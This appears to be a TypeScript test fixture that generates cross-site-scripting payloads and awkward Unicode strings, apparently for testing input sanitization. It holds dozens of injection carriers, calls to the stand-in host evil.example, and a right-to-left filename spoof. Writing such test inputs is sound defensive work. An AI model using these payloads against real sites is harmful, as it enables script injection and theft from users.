/** What each text tries to run. The page is prepared so that any of it leaves a mark. */
const acts = [
  'window.__hit=1',
  'alert(1)',
  "fetch('//evil.example/x')",
  "document.body.dataset.hit='1'",
  'parent.__hit=1',
] as const

/** Places in which a text could become code, in the ways that are known. */
const carriers: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'"></textarea></title></style><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `"><img src=x onerror=${act}>`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg/onload=${act}//`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror="${act}">`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}" autofocus onfocus="${act}">x</a>`,
  (act) => `<details open ontoggle="${act}"><summary>x</summary></details>`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<audio src=x onerror="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<body onload="${act}" onpageshow="${act}">`,
  (act) => `<marquee onstart="${act}">x</marquee>`,
  (act) => `<form action="javascript:${act}"><button autofocus>x</button></form>`,
  (act) => `<meta http-equiv="refresh" content="0;url=javascript:${act}">`,
  (act) => `<base href="javascript:${act}//">`,
  (act) => `<link rel=stylesheet href="data:text/css,*{background:url(//evil.example)}"><!-- ${act} -->`,
  (act) => `<style>*{background:url("javascript:${act}")}</style>`,
  (act) => `</style><style>@import '//evil.example/x.css';</style>${act}`,
  (act) => `javascript:${act}`,
  (act) => `JaVaScRiPt:${act}//`,
  (act) => `java\tscript:${act}`,
  (act) => `data:text/html,<script>${act}</script>`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `\${${act}}`,
  (act) => `<%= ${act} %>`,
  (act) => `#{${act}}`,
  (act) => `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}}`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
]

/** Texts that are no code but break layouts, sorting and comparisons. */
const oddTexts: readonly string[] = [
  '\u202Etxt.exe nimda\u202C',
  '\u2066\u2067isolated\u2069\u2069',
  'مرحبا <b>بالعالم</b> 123',
  'שלום עולם (אבג)',
  '👩‍👩‍👧‍👦👨🏽‍🚒🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'a\u200Db\u200Cc\u2060d',
  '\uD800 alone',
  'alone \uDC00\uDBFF',
  `Z${'\u0301'.repeat(80)}algo`,
  'W'.repeat(110),
]

/** `count` different texts of all kinds, the same each time; there are somewhat more than 200. */
export const hostileTexts = (count: number): readonly string[] => {
  const odd = oddTexts.slice(0, Math.ceil(count / 3))
  const scripted = acts.flatMap((act) => carriers.map((carrier) => carrier(act)))
  const wanted = Math.min(count - odd.length, scripted.length)
  // Spread over all of them, so that a small run has every kind, too.
  const picked = Array.from({ length: wanted }, (_, n) => scripted[Math.floor((n * scripted.length) / wanted)] ?? '')
  return [...odd, ...picked]
}
